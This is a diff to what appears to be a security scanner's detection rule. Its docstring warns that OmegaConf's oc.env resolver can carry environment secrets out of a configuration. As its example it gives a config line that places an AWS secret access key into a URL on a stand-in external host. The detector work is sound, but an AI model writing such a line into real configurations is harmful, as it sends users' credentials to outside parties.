@@ -1,8 +1,8 @@
 """A configuration takes a secret out of the environment.
 
 ## Why it matters
-OmegaConf's `oc.env` and similar resolvers copy environment variables into the configuration. From there they go wherever
-the configuration goes: logs, checkpoints, or an address that the same file gives.
+OmegaConf's `oc.env` and similar resolvers copy environment variables into the configuration. From there they go
+wherever the configuration goes: logs, checkpoints, or an address that the same file gives.
 
 ## Example
 `url: https://host.example/${oc.env:AWS_SECRET_ACCESS_KEY}`.
@@ -16,9 +16,9 @@ OmegaConf, *Custom resolvers: oc.env*. LangChain, serialised secrets.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 from typing import Final
-import re
 
 from assay.core import threat
 from assay.core.finding import Confidence, Severity
